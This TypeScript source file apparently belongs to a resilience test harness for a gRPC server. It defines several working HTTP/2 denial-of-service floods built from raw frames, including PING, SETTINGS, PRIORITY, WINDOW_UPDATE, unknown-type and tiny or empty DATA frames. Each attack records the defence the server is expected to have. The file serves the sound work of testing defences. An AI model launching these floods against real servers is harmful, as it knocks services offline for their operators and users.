import type { Attack, AttackContext } from "../../attack.ts";
import { untilOver } from "../../tools/at-once.ts";
import { pathOf } from "../../tools/messages.ts";
import { flags, frame, frames, grpcHead, RawHttp2, uint32 } from "../../tools/raw-http2.ts";

const right = "frames that bring nothing are bounded, or cheap";
const framesAtOnce = 2_000;

/** The same frame without pause, on four connections that are made anew. */
async function flood(
  { addresses, outcomes, signal }: AttackContext,
  one: (connection: RawHttp2) => Buffer,
  reads = true,
): Promise<void> {
  await untilOver(4, signal, async () => {
    using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal }, reads);
    const burst = Buffer.concat(Array.from({ length: framesAtOnce }, () => one(connection)));
    while (connection.isOpen && !signal.aborted) {
      await connection.send(burst);
      outcomes.see("sent", framesAtOnce);
    }
  });
}

const pingFrame = frame(frames.ping, 0, 0, Buffer.alloc(8));
const settingsFrame = frame(frames.settings, 0, 0, Buffer.of(0, 4, 0, 0, 0xff, 0xff));

export const pingFlood: Attack = {
  name: "ping-flood",
  sends: "PING frames without pause, whose answers are read, on 4 connections",
  right,
  form: "full",
  run: (context) => flood(context, () => pingFrame),
};

export const pingFloodUnread: Attack = {
  name: "ping-flood-unread",
  sends: "PING frames without pause, whose answers nobody reads, on 4 connections",
  right,
  form: "long",
  run: (context) => flood(context, () => pingFrame, false),
};

export const settingsFlood: Attack = {
  name: "settings-flood",
  sends: "SETTINGS frames without pause, whose answers are read, on 4 connections",
  right,
  form: "full",
  run: (context) => flood(context, () => settingsFrame),
};

export const settingsFloodUnread: Attack = {
  name: "settings-flood-unread",
  sends: "SETTINGS frames without pause, whose answers nobody reads, on 4 connections",
  right,
  form: "full",
  run: (context) => flood(context, () => settingsFrame, false),
};

export const windowSettings: Attack = {
  name: "window-settings",
  sends: "SETTINGS that change the window of 5000 open streams, without pause, on 4 connections",
  right: "HTTP/2 looks at every open stream for each, so a connection may bring few in a second",
  form: "full",
  async run({ addresses, outcomes, signal }) {
    const head = grpcHead(pathOf("keepAlive"));
    await untilOver(4, signal, async () => {
      using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
      for (let opened = 0; opened < 5_000; opened += 500) {
        const streams = Array.from({ length: 500 }, () =>
          frame(frames.headers, flags.endHeaders, connection.nextStream(), head),
        );
        await connection.send(Buffer.concat(streams));
      }
      const burst = Buffer.concat(Array.from({ length: 500 }, () => settingsFrame));
      while (connection.isOpen && !signal.aborted) {
        await connection.send(burst);
        outcomes.see("sent", 500);
      }
    });
  },
};

export const priorityFlood: Attack = {
  name: "priority-flood",
  sends: "PRIORITY frames for streams that are not there, without pause, on 4 connections",
  right,
  form: "full",
  run: (context) =>
    flood(context, (connection) =>
      frame(frames.priority, 0, connection.nextStream(), Buffer.of(0, 0, 0, 0, 15)),
    ),
};

export const windowFlood: Attack = {
  name: "window-flood",
  sends: "WINDOW_UPDATE frames of one byte without pause, on 4 connections",
  right,
  form: "full",
  run: (context) => flood(context, () => frame(frames.windowUpdate, 0, 0, uint32(1))),
};

export const unknownFrames: Attack = {
  name: "unknown-frames",
  sends: "frames of types that do not exist, without pause, on 4 connections",
  right,
  form: "full",
  run: (context) => flood(context, () => frame(0x55, 0, 0, Buffer.alloc(16))),
};

export const emptyData: Attack = {
  name: "empty-data",
  sends: "DATA frames without a byte, on a call that never ends, on 4 connections",
  right,
  form: "long",
  async run({ addresses, outcomes, signal }) {
    await untilOver(4, signal, async () => {
      using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
      const stream = connection.nextStream();
      const head = grpcHead(pathOf("keepAlive"));
      await connection.send(frame(frames.headers, flags.endHeaders, stream, head));
      const one = frame(frames.data, 0, stream);
      const burst = Buffer.concat(Array.from({ length: framesAtOnce }, () => one));
      while (connection.isOpen && !signal.aborted) {
        await connection.send(burst);
        outcomes.see("sent", framesAtOnce);
      }
    });
  },
};

export const tinyData: Attack = {
  name: "tiny-data",
  sends:
    "a call whose message of 1 MiB comes in DATA frames of one byte, 50 at once on 4 connections",
  right,
  form: "long",
  async run({ addresses, outcomes, signal }) {
    const head = grpcHead(pathOf("renew"));
    await untilOver(4, signal, async () => {
      using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
      const streams = Array.from({ length: 50 }, () => connection.nextStream());
      const begin = streams.flatMap((stream) => [
        frame(frames.headers, flags.endHeaders, stream, head),
        frame(frames.data, 0, stream, Buffer.of(0, 0, 0x10, 0, 0)),
      ]);
      await connection.send(Buffer.concat(begin));
      // As far as the windows of the streams go: nobody asks for more.
      const bytes = streams.map((stream) => frame(frames.data, 0, stream, Buffer.of(0x0a)));
      const burst = Buffer.concat(Array.from({ length: 20 }, () => bytes).flat());
      for (let sent = 0; sent < 60_000 && connection.isOpen && !signal.aborted; sent += 1_000) {
        await connection.send(burst);
        outcomes.see("sent", 1_000);
      }
    });
  },
};
